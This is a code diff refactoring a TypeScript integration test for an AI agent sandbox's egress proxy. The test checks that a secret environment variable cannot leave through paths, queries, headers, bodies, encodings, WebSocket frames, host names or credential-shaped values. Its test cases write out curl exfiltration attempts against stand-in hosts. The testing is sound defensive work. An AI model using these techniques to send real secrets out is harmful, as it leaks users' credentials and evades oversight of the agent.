@@ -5,50 +5,31 @@
 // refused, and the recording stand-in must never see the secret in any form.
 import { randomBytes } from "node:crypto";
 import { gzipSync } from "node:zlib";
-import { afterAll, beforeAll, expect, it } from "vitest";
+import { beforeAll, expect, it } from "vitest";
+import type { RunningBottle } from "../support/docker/bottle-harness.js";
+import { describeWithEngine } from "../support/docker/engine.js";
 import {
-  makeUpstreamCa,
-  type RunningBottle,
-  startBottle,
-  type UpstreamCa,
-} from "../support/bottle-harness.js";
-import { makeTestHome, type TestHome } from "../support/cli-process.js";
-import { describeWithEngine } from "../support/engine.js";
-import { curlThrough, pipelockAddress, pipelockProxy } from "../support/escape-bottle.js";
+  curlThrough,
+  notRefused,
+  pipelockAddress,
+  pipelockProxy,
+} from "../support/docker/escape-bottle.js";
 import {
   type ExchangeOp,
   httpRequest,
   probe,
   webSocketFrame,
   webSocketUpgrade,
-} from "../support/escape-probe.js";
-import {
-  type EscapeScope,
-  everythingReceived,
-  newEscapeScope,
-  type RecordingUpstream,
-  startRecordingUpstream,
-  tearDownEscape,
-} from "../support/escape-standins.js";
+} from "../support/docker/escape-probe.js";
+import { escapeSuite } from "../support/docker/escape-suite.js";
+import { encodedForms } from "../support/fixtures/encoded-forms.js";
+import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";
 
 const SECRET = `cbsecret-${randomBytes(10).toString("hex")}`;
 const TOKEN = `cbtest-dlp-route-token-${randomBytes(4).toString("hex")}`;
 const ALLOWED = "allowed.example.test";
 const ROUTE = "api.example.test";
 const HEX = Buffer.from(SECRET).toString("hex");
-
-/** Every spelling of the secret a leak could take: what the stand-in must never receive. */
-function secretForms(value: string): string[] {
-  const bytes = Buffer.from(value);
-  const forms = [value, bytes.toString("hex"), bytes.toString("hex").toUpperCase()];
-  for (const pad of ["", "x", "xy"]) {
-    // The middle of the encoding, which does not depend on the bytes around the secret.
-    const b64 = Buffer.from(pad + value).toString("base64");
-    const core = b64.slice(pad === "" ? 0 : pad.length + 1, -4);
-    forms.push(core, core.replace(/\+/g, "-").replace(/\//g, "_"));
-  }
-  return forms;
-}
 
 /** Random credentials of well-known shapes, made up per run. */
 function fakeAwsKeyId(): string {
@@ -62,30 +43,13 @@ function fakeGithubToken(): string {
 }
 
 describeWithEngine("escape: carrying a secret out to an allowed host", () => {
-  const scope: EscapeScope = newEscapeScope();
-  let t: TestHome;
-  let ca: UpstreamCa;
+  const suite = escapeSuite();
   let bottle: RunningBottle;
   let upstream: RecordingUpstream;
 
   /** Requests for `/escape…` the stand-in received: each one is a leak. */
   const leaks = async () =>
     (await upstream.requests()).filter((r) => r.url.startsWith("/escape")).map((r) => r.url);
-
-  /** Runs curl cases through the agent's proxy and returns the ones not refused with 403. */
-  async function notRefused(
-    cases: ReadonlyArray<{ name: string; url: string; args?: string; proxy?: string }>,
-  ): Promise<string[]> {
-    const passed: string[] = [];
-    for (const c of cases) {
-      const r = await curlThrough(bottle, c.url, {
-        ...(c.args === undefined ? {} : { args: c.args }),
-        ...(c.proxy === undefined ? {} : { proxy: c.proxy }),
-      });
-      if (r.connect !== 403 && r.http !== 403) passed.push(`${c.name}: ${r.connect} ${r.http}`);
-    }
-    return passed;
-  }
 
   const tunnelTo = (host: string, send: Buffer[], proxy = "egress:8080"): ExchangeOp => ({
     kind: "exchange",
@@ -98,12 +62,8 @@ describeWithEngine("escape: carrying a secret out to an allowed host", () => {
   });
 
   beforeAll(async () => {
-    t = await makeTestHome();
-    ca = await makeUpstreamCa();
-    await t.writeManifest(
-      "bottles",
-      "dlp",
-      `---
+    bottle = await suite.startBottle("dlp", {
+      bottle: `
 env:
   AGENT_SECRET: {from_env: CB_DLP_SECRET}
 egress:
@@ -112,34 +72,18 @@ egress:
     - host: ${ROUTE}
       auth: { scheme: Bearer, token_env: CB_DLP_TOKEN }
 supervise: false
----
 `,
-    );
-    await t.writeManifest("agents", "dlp", "---\nbottle: dlp\n---\nagent\n");
-    bottle = await startBottle(t, "dlp", {
-      CB_DLP_SECRET: SECRET,
-      CB_DLP_TOKEN: TOKEN,
-      CLAUDE_BOTTLE_UPSTREAM_CA: ca.caFile,
+      env: { CB_DLP_SECRET: SECRET, CB_DLP_TOKEN: TOKEN },
     });
     // The secret-bearing names answer on the stand-in, so a leak lands there and no name is
     // ever looked up outside the machine.
-    upstream = await startRecordingUpstream(scope, bottle, {
-      ca,
-      hostnames: [
-        ALLOWED,
-        ROUTE,
-        "control.wild.example.test",
-        `${SECRET}.wild.example.test`,
-        `${HEX}.wild.example.test`,
-      ],
-    });
-  });
-
-  afterAll(async () => {
-    const left = await tearDownEscape(scope, [bottle]);
-    await ca?.dispose();
-    await t?.dispose();
-    expect(left).toEqual([]);
+    upstream = await suite.startUpstream(bottle, [
+      ALLOWED,
+      ROUTE,
+      "control.wild.example.test",
+      `${SECRET}.wild.example.test`,
+      `${HEX}.wild.example.test`,
+    ]);
   });
 
   it("holds the secret, and sends clean requests out (the control)", async () => {
@@ -155,7 +99,7 @@ supervise: false
   it("blocks the secret in the path, the query, a header and a cookie", async () => {
     // Threat: the agent reads its own environment and sends a value out in the request line or headers.
     const base = `https://${ALLOWED}/escape`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "path", url: `${base}/path/$AGENT_SECRET` },
       { name: "query", url: `${base}/query?q=$AGENT_SECRET` },
       { name: "header", url: `${base}/header`, args: `-H "X-Debug: $AGENT_SECRET"` },
@@ -186,7 +130,7 @@ supervise: false
     const code = SECRET.charCodeAt(0).toString(16).padStart(4, "0");
     const jsonEscaped = `{"note":"\\u${code}${SECRET.slice(1)}"}`;
     const base = `https://${ALLOWED}/escape`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "plain", url: `${base}/body`, args: `--data-binary "log: $AGENT_SECRET"` },
       {
         name: "json",
@@ -216,7 +160,7 @@ supervise: false
     const base = `https://${ALLOWED}/escape`;
     const b64 = (pad: string) => Buffer.from(pad + SECRET).toString("base64");
     const percent = [...Buffer.from(SECRET)].map((b) => `%${b.toString(16)}`).join("");
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "base64", url: `${base}/b64`, args: `--data-binary '${b64("")}'` },
       { name: "base64, one byte in", url: `${base}/b64-1`, args: `-H 'X-Blob: ${b64("x")}'` },
       { name: "base64, two bytes in", url: `${base}/b64-2?d=${encodeURIComponent(b64("xy"))}` },
@@ -240,7 +184,7 @@ supervise: false
       `printf %s '${gz.toString("base64")}' | base64 -d >/tmp/body.gz && gzip -c /tmp/body.gz >/tmp/body.gz.gz`,
     );
     expect(files.code).toBe(0);
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       {
         name: "gzip",
         url: `https://${ALLOWED}/escape/gzip`,
@@ -308,7 +252,7 @@ supervise: false
       tunnelTo(ROUTE, send(ROUTE, "/trailer-route")),
     ]);
     const received = everythingReceived(await upstream.requests(), []);
-    expect(secretForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
+    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
   });
 
   it("blocks a secret in a WebSocket message, a fragmented message and a ping, but relays clean ones", async () => {
@@ -350,13 +294,13 @@ supervise: false
     const payloads = frames.map((f) => Buffer.from(f.payload, "base64").toString("latin1"));
     expect(payloads.filter((p) => p.includes("hello, clean message"))).toHaveLength(ops.length);
     const received = everythingReceived([], frames);
-    expect(secretForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
+    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
     expect(payloads.filter((p) => p.includes(SECRET.slice(0, half)))).toEqual([]);
   });
 
   it("blocks the secret in a host name under an allowed wildcard", async () => {
     // Threat: the name itself is the message (and is looked up by a resolver on the way).
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "verbatim", url: `https://${SECRET}.wild.example.test/escape/name` },
       { name: "hex", url: `https://${HEX}.wild.example.test/escape/name-hex` },
       { name: "plain http", url: `http://${SECRET}.wild.example.test/escape/name-plain` },
@@ -368,7 +312,7 @@ supervise: false
   it("blocks credential-shaped values the bottle never declared", async () => {
     // Threat: the agent finds a key in a repository or a file and sends it out.
     const base = `https://${ALLOWED}/escape`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       {
         name: "AWS key id",
         url: `${base}/aws`,
@@ -386,7 +330,7 @@ supervise: false
 
   it("does not let the route's own host receive the agent's secret", async () => {
     // Threat: a host trusted with the route's token is still not trusted with every secret.
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       {
         name: "route host, header",
         url: `https://${ROUTE}/escape/route`,
@@ -405,11 +349,11 @@ supervise: false
   it("the stand-in never received the secret, in any form, anywhere", async () => {
     const received = everythingReceived(await upstream.requests(), await upstream.frames());
     expect(received.length).toBeGreaterThan(0);
-    expect(secretForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
+    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
     // pipelock's audit log records every refusal, and never the value it refused.
     const audit = await bottle.pipelockAudit();
     expect(audit.some((e) => e.decision === "dlp_block")).toBe(true);
     const logged = JSON.stringify(audit);
-    expect(secretForms(SECRET).filter((f) => logged.includes(f))).toEqual([]);
+    expect(encodedForms(SECRET).filter((f) => logged.includes(f))).toEqual([]);
   });
 });
